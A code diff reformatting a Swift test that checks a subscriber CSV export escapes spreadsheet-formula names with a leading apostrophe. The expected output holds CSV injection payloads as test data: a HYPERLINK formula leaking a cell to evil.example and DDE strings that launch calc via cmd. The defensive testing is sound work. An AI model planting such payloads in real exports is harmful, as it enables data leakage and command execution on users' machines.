@@ -27,27 +27,32 @@ import Testing
         // Names starting with TAB or CR cannot come from a CSV import (cells are trimmed): store them directly.
         let store = try SQLiteStore(path: workspace.directory.appendingPathComponent("data/bulkhead.sqlite").path)
         let news = try #require(try await store.list(named: "news"))
-        let rows = try Self.people.map { ImportRow(address: try NormalizedAddress($0.address), name: $0.name,
-                                                   attributes: ["note": .string("=1+1")], status: .confirmed) }
-        _ = try await store.importSubscribers(rows, into: news.id, importID: "test", consent: ImportConsent(defaultStatus: .confirmed, source: "test"))
+        let rows = try Self.people.map {
+            ImportRow(
+                address: try NormalizedAddress($0.address), name: $0.name,
+                attributes: ["note": .string("=1+1")], status: .confirmed)
+        }
+        _ = try await store.importSubscribers(
+            rows, into: news.id, importID: "test", consent: ImportConsent(defaultStatus: .confirmed, source: "test"))
 
         let export = try workspace.run("subscribers", "export", "--list", "news")
         #expect(export.status == 0, "\(export.stderr)")
-        #expect(export.stdout == """
-            email,name,status,attributes\r
-            a@example.com,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",confirmed,"{""note"":""=1+1""}"\r
-            b@example.com,'+cmd|' /C calc'!A0,confirmed,"{""note"":""=1+1""}"\r
-            c@example.com,'-2+3,confirmed,"{""note"":""=1+1""}"\r
-            d@example.com,'@SUM(1+1)*cmd|' /C calc'!A0,confirmed,"{""note"":""=1+1""}"\r
-            e@example.com,'\tTab first,confirmed,"{""note"":""=1+1""}"\r
-            f@example.com,"'\rCR first",confirmed,"{""note"":""=1+1""}"\r
-            g@example.com,''=already guarded by someone,confirmed,"{""note"":""=1+1""}"\r
-            h@example.com,'plain apostrophe,confirmed,"{""note"":""=1+1""}"\r
-            i@example.com,"Ann = Lee, + - @",confirmed,"{""note"":""=1+1""}"\r
-            '-dash@example.com,Dash,confirmed,"{""note"":""=1+1""}"\r
-            '=eq@example.com,Equals,confirmed,"{""note"":""=1+1""}"\r
+        #expect(
+            export.stdout == """
+                email,name,status,attributes\r
+                a@example.com,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",confirmed,"{""note"":""=1+1""}"\r
+                b@example.com,'+cmd|' /C calc'!A0,confirmed,"{""note"":""=1+1""}"\r
+                c@example.com,'-2+3,confirmed,"{""note"":""=1+1""}"\r
+                d@example.com,'@SUM(1+1)*cmd|' /C calc'!A0,confirmed,"{""note"":""=1+1""}"\r
+                e@example.com,'\tTab first,confirmed,"{""note"":""=1+1""}"\r
+                f@example.com,"'\rCR first",confirmed,"{""note"":""=1+1""}"\r
+                g@example.com,''=already guarded by someone,confirmed,"{""note"":""=1+1""}"\r
+                h@example.com,'plain apostrophe,confirmed,"{""note"":""=1+1""}"\r
+                i@example.com,"Ann = Lee, + - @",confirmed,"{""note"":""=1+1""}"\r
+                '-dash@example.com,Dash,confirmed,"{""note"":""=1+1""}"\r
+                '=eq@example.com,Equals,confirmed,"{""note"":""=1+1""}"\r
 
-            """)
+                """)
 
         try workspace.write(export.stdout, to: "news.csv")
         let reimport = try workspace.run("subscribers", "import", "news.csv", "--list", "copy", "--json")
